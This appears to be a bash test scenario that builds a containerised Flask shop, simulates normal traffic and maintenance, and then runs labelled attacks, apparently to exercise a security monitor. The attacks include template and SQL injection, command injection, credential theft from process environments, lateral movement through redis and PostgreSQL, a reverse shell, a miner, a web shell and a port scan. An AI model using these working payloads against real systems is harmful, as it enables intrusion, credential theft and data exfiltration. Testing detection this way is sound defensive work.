# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# A shop of five containers: nginx as the gateway; the web application in Flask under gunicorn, with
# its worker; redis for sessions, baskets and pages; NATS with JetStream for orders; PostgreSQL. Its
# code and configuration are in the directory shop beside this file.

# shellcheck disable=SC2034,SC2154 # lib.bash and rare.bash read these variables, and set others
set=test containers=(database cache queue shop gateway) port=80
data_directory=/var/lib/postgresql/15/main/base configuration_file=/etc/nginx/nginx.conf
health=(/usr/bin/curl -fsS -o /dev/null http://127.0.0.1/health)
rare_own=(certificate database_busy queue_paused cache_restored product_table new_receipt shop_reloaded
	worker_restarted)
shop_files=${here:?}/services/shop pgbin=/usr/lib/postgresql/15/bin
shop_token='' seller_token='' shop_reference=1 report_reference=1

# ---- images ----

# image_part PART: the packages of that container's image.
image_part() {
	part=$1
	image_packages=(coreutils findutils gzip dash base-files libc-bin tzdata hostname)
	case $1 in
	gateway) image_packages+=(nginx-light curl logrotate) ;;
	shop) image_packages+=(python3-flask gunicorn python3-psycopg2 python3-redis grep) ;;
	cache) image_packages+=(redis-server redis-tools) ;;
	queue) image_packages+=(nats-server) ;;
	database) image_packages+=(postgresql-15) ;;
	esac
}

image_prepare() {
	local tree=$1
	printf '%s\n' redis:x:102:102::/var/lib/redis:/bin/false postgres:x:103:103::/var/lib/postgresql:/bin/sh \
		nats:x:104:104::/var/lib/nats:/bin/false >>"$tree/etc/passwd"
	printf '%s\n' redis:x:102: postgres:x:103: nats:x:104: >>"$tree/etc/group"
	"prepare_$part" "$tree"
}

prepare_gateway() {
	local tree=$1
	mkdir -p "$tree"/srv/www/static "$tree"/var/{log,lib,cache}/nginx "$tree/etc/nginx/tls"
	cp "$shop_files/nginx.conf" "$tree/etc/nginx/nginx.conf"
	printf 'table { width: 100%% }\n' >"$tree/srv/www/static/shop.css"
	head -c 90K /dev/urandom | base64 >"$tree/srv/www/static/shop.js"
	openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj /CN=service.example \
		-keyout "$tree/etc/nginx/tls/key.pem" -out "$tree/etc/nginx/tls/cert.pem" 2>/dev/null
}

prepare_shop() {
	local tree=$1 data=$1/var/lib/shop i
	mkdir -p "$tree/srv/shop" "$data"/{pictures,reports,receipts} "$tree/var/log/shop"
	cp -r "$shop_files"/{shop,messages,worker,gunicorn.conf}.py "$shop_files"/{start,pages} "$tree/srv/shop/"
	cp "$shop_files/pages/receipt.html" "$data/receipts/"
	for i in $(seq 12); do
		head -c "$((i * 3))K" /dev/urandom >"$data/pictures/$i.png"
	done
	: >"$data/sales.csv"
	chown -R 33:33 "$data" "$tree/var/log/shop"
}

prepare_cache() {
	mkdir -p "$1"/var/{lib,log}/redis
	cp "$shop_files/redis.conf" "$1/etc/redis/redis.conf"
	chown -R 102:102 "$1"/var/{lib,log}/redis "$1/etc/redis"
}

prepare_queue() {
	mkdir -p "$1"/var/{lib,log}/nats
	cp "$shop_files/nats.conf" "$1/etc/nats-server.conf"
	chown -R 104:104 "$1"/var/{lib,log}/nats
}

# A database with the shop's tables, of a server that was never started: by its single-user mode.
prepare_database() {
	local tree=$1 etc=$1/etc/postgresql/15/main data=/var/lib/postgresql/15/main
	mkdir -p "$etc/conf.d" "$tree$data" "$tree"/var/{log/postgresql,backups/shop} "$tree"/{run/postgresql,dev/shm}
	cp "$shop_files"/{postgresql,pg_hba}.conf "$etc/"
	: >"$etc/pg_ident.conf"
	chmod 1777 "$tree/dev/shm" "$tree/run/postgresql" # a runtime gives its tmpfs the mode of the directory
	mknod -m 666 "$tree/dev/null" c 1 3
	mknod -m 444 "$tree/dev/urandom" c 1 9
	chown -R 103:103 "$tree"/var/lib/postgresql "$tree"/var/{log/postgresql,backups/shop} "$tree/run/postgresql" "$etc"
	{
		in_image "$pgbin/initdb" -D "$data" -U postgres -E UTF8 --locale=C --no-sync
		in_image "$pgbin/postgres" --single -D "$data" postgres <<<'CREATE DATABASE shop'
		in_image "$pgbin/postgres" --single -j -D "$data" shop <"$shop_files/schema.sql"
	} >"$tree/made.log" 2>&1 || { cat "$tree/made.log" >&2 && return 1; }
	! grep -E 'ERROR|FATAL' "$tree/made.log" >&2
	rm -rf "$tree/made.log" "${tree:?}"/dev/*
}

in_image() {
	chroot --userspec=103:103 "$tree" "$@"
}

# ---- containers ----

container_fields() {
	image=shop-$1
	case $1 in
	gateway)
		arguments=(/usr/sbin/nginx -g 'daemon off;')
		volumes=(/var/log/nginx)
		;;
	shop)
		arguments=(/srv/shop/start) user=33:33 directory=/srv/shop volumes=(/var/lib/shop /var/log/shop)
		environment+=(DATABASE_HOST=database DATABASE_PASSWORD=database-secret CACHE_HOST=cache
			CACHE_PASSWORD=cache-secret QUEUE_HOST=queue QUEUE_PASSWORD=queue-secret PYTHONDONTWRITEBYTECODE=1)
		;;
	cache)
		arguments=(/usr/bin/redis-server /etc/redis/redis.conf) user=102:102 volumes=(/var/lib/redis /var/log/redis)
		;;
	queue)
		arguments=(/usr/sbin/nats-server -c /etc/nats-server.conf) user=104:104 volumes=(/var/lib/nats /var/log/nats)
		;;
	database)
		arguments=("$pgbin/postgres" -D /var/lib/postgresql/15/main
			-c config_file=/etc/postgresql/15/main/postgresql.conf)
		user=103:103 directory=/var/lib/postgresql tmpfs=(/tmp /run/postgresql)
		volumes=(/var/lib/postgresql /var/log/postgresql /var/backups/shop)
		;;
	esac
}

peers() {
	:
}

ready() {
	fetch / -f -o /dev/null
}

# ---- what customers, sellers and administrators do ----

# shop_login NAME: prints the token of a new session.
shop_login() {
	fetch /login -f -d "name=$1" -d "password=${2:-password-of-$1}" | jq -r .token
}

# as_customer PATH [CURL OPTION…]: a request in the customer's session, which is begun anew if it is over.
as_customer() {
	fetch "$@" -f -b "session=$shop_token" && return
	shop_token=$(shop_login "customer$(between 1 30)")
	fetch "$@" -f -b "session=$shop_token"
}

as_seller() {
	fetch "$@" -f -b "session=$seller_token" && return
	seller_token=$(shop_login "seller$(between 1 3)")
	fetch "$@" -f -b "session=$seller_token"
}

# seller_begin: as_seller() has a valid session from here on, in subshells too.
seller_begin() {
	[ -n "$seller_token" ] && fetch /basket -f -o /dev/null -b "session=$seller_token" ||
		seller_token=$(shop_login "seller$(between 1 3)")
}

request() {
	local n
	n=$(between 1 120)
	case $((RANDOM % 16)) in
	0 | 1) fetch "/?category=$(pick all drinks food things)" -o /dev/null ;;
	2 | 3) fetch "/product/$n" -o /dev/null && fetch "/pictures/$((1 + n % 12)).png" -o /dev/null ;;
	4) fetch "/search?q=$(pick tea coffee cup %20 none black%20tea)" -o /dev/null ;;
	5) fetch "/static/shop.$(pick css js)" --compressed -o /dev/null ;;
	6) shop_token=$(shop_login "customer$(between 1 30)") ;;
	7) fetch /login -d "name=customer$n" -d password=wrong -o /dev/null ;;
	8 | 9) as_customer /basket -d "product=$n" -d "count=$(between 1 4)" ;;
	10) as_customer /basket ;;
	11) customer_orders ;;
	12) as_customer "/order/$(between 1 "$shop_reference")" ;;
	13) client ab -q -r -c "$(between 1 4)" -n "$((n / 2 + 2))" "http://$own_address/product/$n" ;;
	14) seller_works ;;
	15) fetch "/none/$n" -o /dev/null ;;
	esac
	[ $((RANDOM % 8)) != 0 ] || client curl -sSk -o /dev/null "https://$own_address/product/$n"
}

customer_orders() {
	local answer
	as_customer /basket -d "product=$(between 1 120)" || return
	answer=$(as_customer /order -d "note=$(pick 'thank you' 'ring twice' '' 'a gift')") || return
	shop_reference=$(jq -r .reference <<<"$answer")
	sleep 1
	as_customer "/receipt/$shop_reference"
}

seller_works() {
	local n
	n=$(between 1 120)
	seller_begin
	case $((RANDOM % 4)) in
	0) as_seller /restock -d "product=$n" -d "count=$(between 10 200)" ;;
	1) as_seller /price -d "product=$n" -d "price=$(between 1 40).50" ;;
	2) client_stdin head -c "$((n * 500))" /dev/urandom |
		fetch_stdin /upload -b "session=$seller_token" -F "product=$n" -F "name=$((1 + n % 12)).png" -F 'picture=@-' ;;
	3)
		report_reference=$(as_seller /report -d "product=$(pick 'black tea' 'green tea' coffee honey cup)" | jq -r .report)
		sleep 1
		as_seller "/report/$report_reference"
		;;
	esac
}

# fetch_stdin PATH [CURL OPTION…]: as fetch(), with the caller's standard input.
fetch_stdin() {
	local path=$1
	shift
	client_stdin curl -sS --max-time 20 "$@" "http://$own_address:$port$path"
}

# Prints the token of a session of a seller that is valid now.
seller_session() {
	shop_login "seller$(between 1 3)"
}

reload_service() {
	container_signal gateway HUP
}

# Backup of the database, logs of all containers rotated, the cache flushed, the gateway's configuration read again.
administer() {
	session_as 103:103 database /bin/sh -c "$pgbin/pg_dump -h /run/postgresql -Fc -f /var/backups/shop/shop.new shop &&
		mv /var/backups/shop/shop.new /var/backups/shop/shop.dump"
	database_admin -c 'SELECT pg_rotate_logfile()' -c 'VACUUM ANALYZE' shop
	session cache /usr/bin/redis-cli -a cache-secret --no-auth-warning EVAL \
		"for _, k in ipairs(redis.call('KEYS', 'products:*')) do redis.call('DEL', k) end" 0
	rotate_logs gateway /var/log/nginx access.log USR1
	rotate_logs shop /var/log/shop access.log USR1
	rotate_logs queue /var/log/nats nats.log USR1
	reload_service
}

# database_admin OPTION… DATABASE: psql as the database's own user.
database_admin() {
	session_as 103:103 database "$pgbin/psql" -q -h /run/postgresql "$@"
}

# rotate_logs CONTAINER DIRECTORY FILE SIGNAL
rotate_logs() {
	local file
	file=$(volume_path "$1" "$2")/$3
	mv "$file" "$file.1"
	container_signal "$1" "$4"
}

# ---- rare events ----

# What the common ones happen to. Without a line: the gateway.
declare -A shop_events=([shell]=shop [copied_file]=shop [backup_job]=database [search_job]=cache [tmp_full]=shop
	[resolv_conf]=shop [hosts_file]=shop [descriptors]=cache [volume_full]=shop [processor_short]=database)

# Each rare event happens to one of the five. event() has its name.
first_container() {
	echo "${shop_events[${name:-}]:-gateway}"
}

rare_certificate() {
	certificate_renew gateway /etc/nginx/tls
	reload_service
}

# An administrator's statements, which lock the tables and use temporary files.
rare_database_busy() {
	database_admin -c 'VACUUM FULL orders, items' \
		-c "SET work_mem = '64kB'" -c 'SELECT count(*) FROM (SELECT md5(i::text) FROM generate_series(1, 60000) i ORDER BY 1) t' shop
}

rare_product_table() {
	database_admin -c 'ALTER TABLE products ADD COLUMN weight int DEFAULT 1' -c 'CREATE INDEX ON products (weight)' \
		-c 'REINDEX TABLE products' -c 'ALTER TABLE products DROP COLUMN weight' shop
}

# Nothing comes out of the queue for a while.
rare_queue_paused() {
	container_signal queue STOP
	sleep 6
	container_signal queue CONT
}

# The cache writes its file, and rewrites its log.
rare_cache_restored() {
	session cache /usr/bin/redis-cli -a cache-secret --no-auth-warning BGSAVE
	sleep 2
	session cache /usr/bin/redis-cli -a cache-secret --no-auth-warning BGREWRITEAOF
	sleep 2
	session cache /usr/bin/redis-cli -a cache-secret --no-auth-warning FLUSHALL
}

rare_new_receipt() {
	keep_file shop /var/lib/shop/receipts/receipt.html
	echo '<p>{{ row[1] }}: {{ row[2] }}. @NOTE@ Open till 8.</p>' >"$(volume_path shop /var/lib/shop)/receipts/receipt.html"
	customer_orders
}

# The application's workers are started again, with changed code.
rare_shop_reloaded() {
	keep_file shop /srv/shop/shop.py
	undo container_signal shop HUP
	printf '\n# edited\n' >>"$(image_path shop /srv/shop/shop.py)"
	container_signal shop HUP
	sleep 5
	fetch / -o /dev/null
}

rare_worker_restarted() {
	local pid
	for pid in $(tasks_named shop worker.py); do
		kill -TERM "$pid"
	done
	sleep 4
	customer_orders
}

# ---- attacks ----

# render EXPRESSION: orders with the expression of a template as the note, and prints the receipt.
render() {
	local reference
	as_customer /basket -d product=1 >/dev/null
	reference=$(as_customer /order --data-urlencode "note={{ $1 }}" | jq -r .reference)
	until_true 20 fetch "/order/$reference" -f -o /dev/null -b "session=$shop_token"
	as_customer "/receipt/$reference"
}

# python CODE: Python code in the web application, by a receipt.
python() {
	local code=${1//\\/\\\\}
	render "cycler.__init__.__globals__['__builtins__']['exec'](\"${code//\"/\\\"}\")"
}

# worker_shell COMMAND: the shell of the report runs it; prints what it wrote.
worker_shell() {
	local reference
	seller_begin
	reference=$(as_seller /report --data-urlencode "product=x' /dev/null; $1; true '" | jq -r .report)
	until_true 20 fetch "/report/$reference" -f -b "session=$seller_token"
}

# A command in the product of a report.
attack_command_injection() {
	harm exec /usr/bin/id
	harm read /etc/passwd
	worker_shell "{ id; cat /etc/passwd; } >>/var/lib/shop/sales.csv" >/dev/null
	grep -q uid=33 "$(volume_path shop /var/lib/shop)/sales.csv"
}

# A program started by the template of a receipt.
attack_template_injection() {
	harm exec /usr/bin/dash
	render "cycler.__init__.__globals__.os.popen('id; cat /etc/hostname').read()" | grep uid=33
}

# The environment of the first process has all passwords; the thief uses that of the database.
attack_stolen_password() {
	local password
	harm read '/proc/*/environ'
	password=$(render "cycler.__init__.__globals__.os.popen('cat /proc/1/environ').read()" | tr '\0' '\n' |
		sed -n 's/.*DATABASE_PASSWORD=\([a-z-]*\).*/\1/p')
	in_clients env PGPASSWORD="$password" "$pgbin/psql" -At -h "$own_address" -U shop \
		-c 'SELECT rolname, rolpassword FROM pg_authid' shop | grep SCRAM
}

# search SQL: a statement after the search's own, or a part of it; prints the page.
search() {
	fetch /search -G --data-urlencode "q=none' $1 -- "
}

# All users with their passwords, and a file of the server, as results of a search.
attack_sql_users() {
	harm read '*/pg_hba.conf'
	search 'UNION SELECT id, name || salt || password, 0, 0 FROM users' | grep -c seller
	search "UNION SELECT 0, pg_read_file('/etc/postgresql/15/main/pg_hba.conf'), 0, 0" | grep scram
}

# The shop's role is a superuser, as the first role of a database in a container is.
attack_sql_program() {
	harm exec /usr/bin/dash
	search "; COPY (SELECT 1) TO PROGRAM 'id >/var/lib/postgresql/id; cat /etc/passwd >>/var/lib/postgresql/id'; SELECT 1, 'x', 2, 3"
	grep -q uid=103 "$(volume_path database /var/lib/postgresql)/id"
}

# From the shop to the cache and to the database, by the application's own passwords and drivers.
# shellcheck disable=SC2016 # dollars of SQL
attack_lateral_movement() {
	harm exec /usr/bin/dash
	harm rename '/tmp/*'
	# A redis that saves to a directory of the attacker's choice.
	python 'import os, redis, psycopg2
r = redis.Redis(os.environ["CACHE_HOST"], password=os.environ["CACHE_PASSWORD"])
r.set("job", "* * * * * root id")
r.config_set("dir", "/tmp"), r.config_set("dbfilename", "job"), r.save()
r.config_set("dir", "/var/lib/redis"), r.config_set("dbfilename", "dump.rdb"), r.delete("job")
c = psycopg2.connect(host=os.environ["DATABASE_HOST"], user="shop", dbname="shop", password=os.environ["DATABASE_PASSWORD"])
c.cursor().execute("COPY (SELECT 1) TO PROGRAM $$id >/var/lib/postgresql/moved$$")' >/dev/null
	grep -q uid=103 "$(volume_path database /var/lib/postgresql)/moved"
}

attack_reverse_shell() {
	harm connect "$peer_address:4444"
	harm exec /usr/bin/dash
	thief_shell id
	python "import socket, subprocess
s = socket.create_connection(('$peer_address', 4444))
subprocess.Popen(['/bin/sh'], stdin=s, stdout=s, stderr=s)" >/dev/null
	thief_got uid=33 || return 1
	peer_stop thief
}

# A miner that is uploaded as a picture, and started by a report.
attack_miner() {
	harm exec '/var/lib/shop/pictures/*'
	harm connect "$peer_address:3333"
	pool_begin
	fetch_stdin /upload -b "session=$(seller_session)" -F product=1 -F name=m.png -F 'picture=@-' <"$miner"
	worker_shell "chmod 755 /var/lib/shop/pictures/m.png; /var/lib/shop/pictures/m.png $peer_address 3333 3 >/dev/null 2>&1 & true" >/dev/null
	pool_got || return 1
	sleep 4
	peer_stop pool
}

# A picture whose name leads to the template of the receipts: a web shell.
attack_web_shell() {
	harm write /var/lib/shop/receipts/receipt.html
	harm exec /usr/bin/dash
	echo "{{ cycler.__init__.__globals__.os.popen(request.args.get('c', 'true')).read() }} @NOTE@" |
		fetch_stdin /upload -b "session=$(seller_session)" -F product=1 -F name=../receipts/receipt.html -F 'picture=@-'
	orders_exist >/dev/null
	as_customer "/receipt/$shop_reference?c=id" | grep uid=33
	as_customer "/receipt/$shop_reference?c=cat+/etc/passwd" | grep root
}

# The application asks every port of the network's other machine, and of the database's host.
attack_port_scan() {
	harm connect "$peer_address:*"
	peer_start open socat -u TCP-LISTEN:77,bind="$peer_address",fork,reuseaddr OPEN:/dev/null
	python "import socket
f = open('/var/lib/shop/reports/scan.csv', 'w')
for h in ('$peer_address', '$own_address'):
    for p in range(1, 150):
        s = socket.socket()
        s.settimeout(1)
        f.write('%s:%d %d,' % (h, p, s.connect_ex((h, p))))" >/dev/null
	peer_stop open
	grep -q ":77 0," "$(volume_path shop /var/lib/shop)/reports/scan.csv"
}

# Code inside a process of the application.
attack_code_shell() {
	harm exec /usr/bin/dash
	inject shop gunicorn 'call (int) system("id >/var/lib/shop/reports/code")'
	grep -q uid=33 "$(volume_path shop /var/lib/shop)/reports/code"
}

# ---- attacks of known calls, files and peers only ----

# orders_exist: three orders more are in the database.
orders_exist() {
	for _ in 1 2 3; do
		customer_orders
	done
	until_true 20 fetch "/order/$shop_reference" -f -o /dev/null -b "session=$shop_token"
}

# A customer reads the orders of all others, page by page.
adaptive_order_export() {
	local i
	harm call sendto
	orders_exist >/dev/null
	for ((i = 1; i <= shop_reference; i++)); do
		as_customer "/order/$i"
	done | grep -c 'High Street'
}

# The orders again, as the answer to one search, by the service's own connection.
adaptive_search_export() {
	harm call sendto
	orders_exist >/dev/null
	search "UNION SELECT o.reference, u.name || ' ' || u.address || ' ' || o.note, o.total, 0 FROM orders o JOIN users u ON u.id = o.customer" |
		grep 'High Street'
}

# All prices, by the service's own connection; then an order at the new price.
adaptive_price_tampering() {
	harm call sendto
	search "; UPDATE products SET price = 0.01; SELECT 1, 'x', 2, 3"
	orders_exist | grep ' 0.01'
}

# A seller's session, taken by a customer from the cache, orders stock away.
adaptive_session_theft() {
	local token
	harm call sendto
	seller_session >/dev/null
	token=$(render "cycler.__init__.__globals__['__builtins__']['__import__']('shop').cache.keys('session:*')" |
		grep -oE '[0-9a-f]{32}' | while read -r token; do
		fetch /restock -f -o /dev/null -b "session=$token" -d product=1 -d count=-500 && echo "$token" && break
	done)
	[ -n "$token" ]
}
